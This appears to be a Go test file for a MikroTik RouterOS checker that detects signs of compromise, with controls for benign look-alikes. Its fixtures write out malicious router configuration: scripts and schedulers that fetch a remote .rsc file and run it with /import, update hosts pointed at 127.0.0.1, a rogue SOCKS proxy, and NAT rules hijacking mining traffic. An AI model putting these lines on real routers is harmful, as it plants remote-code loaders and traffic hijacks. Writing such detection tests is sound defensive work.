package check

import (
	"strings"
	"testing"
)

// TestCompromiseWarnings (rc28 D0): the shape of a router infected through
// the WinBox exploit (a scheduler running a script that fetches a .rsc and
// imports it, SOCKS on an odd port, MikroTik's update hosts pointed at
// 127.0.0.1) got "no problem found" and no word of it. Each sign is a
// warning naming its line, with no fix line. Control: a script that
// fetches a backup without importing, SOCKS untouched, a static DNS entry
// of the LAN's own: no warning.
func TestCompromiseWarnings(t *testing.T) {
	text := `# nov/28/2020 07:03:06 by RouterOS 6.43.7
/ip address
add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip dns static
add address=127.0.0.1 name=upgrade.mikrotik.com
add address=127.0.0.1 name=download.mikrotik.com
add address=10.9.9.9 name=update.mikrotik.com
/ip route
add gateway=182.23.24.97
/ip socks
set enabled=yes max-connections=500 port=9175
/system scheduler
add interval=1m name=fetch1m on-event=fetch policy=ftp,reboot,read,write
add interval=5m name=inline on-event=":do { /tool fetch url=http://x.example/a.rsc }; /import file-name=a.rsc"
/system script
add name=fetch owner=system source=":do { /tool fetch url=https://core.zeroday.ltd/command.rsc };:delay 4000ms;/import file-name=command.rsc;/file remove command.rsc"
`
	p := loadText(t, text)
	got := strings.Join(p.CompromiseWarnings(), "\n")
	for _, want := range []string{
		`line 17, script "fetch" downloads a file with /tool fetch and runs it with /import`,
		`line 14, scheduler "fetch1m" runs that script (line 17) every 1m`,
		`line 15, scheduler "inline" downloads a file with /tool fetch and runs it with /import every 5m`,
		`line 12, the SOCKS proxy is on (port 9175)`,
		`line 6, /ip dns static points MikroTik's update host upgrade.mikrotik.com at 127.0.0.1`,
		`line 7, /ip dns static points MikroTik's update host download.mikrotik.com at 127.0.0.1`,
		`line 8, /ip dns static points MikroTik's update host update.mikrotik.com at 10.9.9.9`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("warnings lack %q:\n%s", want, got)
		}
	}
	if n := len(p.CompromiseWarnings()); n != 7 {
		t.Errorf("%d warnings, want 7:\n%s", n, got)
	}
	if d := p.OfflineDocument(); !strings.Contains(strings.Join(d.Warnings, "\n"), "sign of compromise") {
		t.Errorf("the report's warnings lack the signs: %v", d.Warnings)
	}

	control := `# nov/28/2020 07:03:06 by RouterOS 6.43.7
/ip address
add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip dns static
add address=192.168.88.10 name=nas.lan
/ip route
add gateway=182.23.24.97
/system scheduler
add interval=1d name=backup on-event=backup
/system script
add name=backup source="/system backup save name=b; /tool fetch upload=yes mode=ftp src-path=b.backup address=192.168.88.10"
`
	if w := loadText(t, control).CompromiseWarnings(); len(w) != 0 {
		t.Errorf("control: %v", w)
	}
}

// TestMiningHijack (rc28 D0's remainder): a mangle rule lists the
// destinations of connections carrying "mining.submit", and a dst-nat
// sends connections to those destinations to a pool on the internet:
// a sign of compromise naming both lines. Control: the same list feeding
// a dst-nat to a LAN host (a transparent proxy of the user's own) is none.
func TestMiningHijack(t *testing.T) {
	const text = `# nov/28/2020 07:03:06 by RouterOS 6.43.7
/ip address
add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip route
add gateway=182.23.24.97
/ip firewall mangle
add action=add-dst-to-address-list address-list=sha chain=prerouting content=mining.submit dst-address=!94.100.18.41 protocol=tcp
/ip firewall nat
add action=dst-nat chain=dstnat comment=sha dst-address-list=sha dst-port=!23,8291,64444 protocol=tcp to-addresses=%s to-ports=3333
add action=masquerade chain=srcnat out-interface=ether1
`
	for _, tt := range []struct {
		to   string
		want bool
	}{
		{"94.100.18.41", true},
		{"192.168.88.10", false},
	} {
		got := strings.Join(loadText(t, strings.Replace(text, "%s", tt.to, 1)).CompromiseWarnings(), "\n")
		sign := strings.Contains(got, "line 10, dst-nat sends every connection to a destination that line 8 lists by its payload (content=mining.submit) to 94.100.18.41:3333")
		if sign != tt.want || !tt.want && got != "" {
			t.Errorf("to %s: warnings %q", tt.to, got)
		}
	}
}

// TestSocksVerboseDefaults (rc32 C1): RouterOS 7's "export verbose"
// writes the SOCKS menu of an untouched router with every default,
// port=1080 max-connections=200 enabled=no; check read the port and
// max-connections as "set up" and called a clean hAP ac2 compromised. A
// SOCKS set at its defaults is no sign now. Controls: the infections'
// port=9175 max-connections=500, off, stays one, and so does a port of
// its own alone.
func TestSocksVerboseDefaults(t *testing.T) {
	const head = "# 2024-01-10 10:00:00 by RouterOS 7.13.3\n/ip address\nadd address=192.168.88.1/24 interface=ether2 network=192.168.88.0\n/ip dhcp-client\nadd interface=ether1\n/ip socks\n"
	for _, tt := range []struct {
		line string
		sign bool
	}{
		{"set auth-method=none connection-idle-timeout=2m enabled=no max-connections=200 port=1080 version=4 vrf=main\n", false},
		{"set enabled=no max-connections=500 port=9175\n", true},
		{"set enabled=no port=9175\n", true},
	} {
		w := strings.Join(loadText(t, head+tt.line).CompromiseWarnings(), "\n")
		if strings.Contains(w, "the SOCKS proxy is off but was set up") != tt.sign {
			t.Errorf("%q: warnings %q, want a sign %v", tt.line, w, tt.sign)
		}
	}
}

// TestCompromiseCertificateImport (chk57 D11): a script that fetches the
// CA bundle and runs "/certificate import" (the manual's CA store renewal,
// rc31's RB5009) is no sign of compromise; "/import" of what it fetched,
// in either syntax, still is. Controls: ";/import", "/import" on a line
// of its own, and a v7 "/certificate/import".
func TestCompromiseCertificateImport(t *testing.T) {
	const head = "# 2024-01-10 10:00:00 by RouterOS 7.2.3\n/ip address\nadd address=192.168.88.1/24 interface=ether2 network=192.168.88.0\n/ip dhcp-client\nadd interface=ether1\n/system script\n"
	for _, tt := range []struct {
		source string
		sign   bool
	}{
		{`{\r\n  :do {\r\n      /tool fetch url=https://mkcert.org/generate/ check-certificate=yes dst-path=cacert.pem;\r\n      /certificate import file-name=cacert.pem passphrase=\"\";\r\n  } on-error={}\r\n}`, false},
		{`/tool fetch url=https://x.example/c.pem dst-path=c.pem; /certificate/import file-name=c.pem`, false},
		{`/tool fetch url=https://x.example/a.rsc;/import file-name=a.rsc`, true},
		{`{\r\n  /tool fetch url=https://x.example/a.rsc\r\n  /import file-name=a.rsc\r\n}`, true},
		{`:do { /tool fetch url=https://x.example/a.rsc } on-error={}; import a.rsc`, true},
	} {
		w := strings.Join(loadText(t, head+`add name=s source="`+tt.source+"\"\n").CompromiseWarnings(), "\n")
		if strings.Contains(w, "downloads a file with /tool fetch and runs it with /import") != tt.sign {
			t.Errorf("%q: warnings %q, want a sign %v", tt.source, w, tt.sign)
		}
	}
}

// TestCommentedLoaderIsARisk (rc35 C4): a fetch-and-import script whose
// author explained it (a commented ad-block list loader, as two public
// exports carry) is a risk warning naming its comment, not a sign of
// compromise, and the scheduler that runs it is no sign either. Controls:
// the same script without its comment, and with the comment only inside
// its source, which explains it too.
func TestCommentedLoaderIsARisk(t *testing.T) {
	const head = `# jan/02/2024 10:00:00 by RouterOS 7.15.3
/ip address
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip dhcp-client
add interface=ether1
/system scheduler
add interval=1d name=adblock on-event=doAdblock policy=read,write,test
/system script
`
	const loader = `source=":local url \"https://lists.example.org/adblock.rsc\"\r\n/tool fetch url=\$url dst-path=adblock.rsc\r\n/import file-name=adblock.rsc"`
	for _, c := range []struct {
		name, script string
		sign         bool
	}{
		{"its comment", `add comment="Loads a list of ad servers into DNS static" name=doAdblock ` + loader, false},
		{"a comment line in its source", `add name=doAdblock source="## Ad blocker: loads a list of ad servers\r\n/tool fetch url=https://lists.example.org/a.rsc\r\n/import file-name=a.rsc"`, false},
		{"no comment", `add name=doAdblock ` + loader, true},
	} {
		w := loadText(t, head+c.script+"\n").CompromiseWarnings()
		got := strings.Join(w, "\n")
		signs := len(CompromiseSigns(w))
		if c.sign && (signs != 2 || strings.Contains(got, "risk:")) {
			t.Errorf("%s: want two signs (the script, its scheduler), got:\n%s", c.name, got)
		}
		if !c.sign && (signs != 0 || len(w) != 1 || !strings.HasPrefix(w[0], `risk: line 9, script "doAdblock" (its comment: "`)) {
			t.Errorf("%s: want one risk naming the comment, got:\n%s", c.name, got)
		}
	}
}
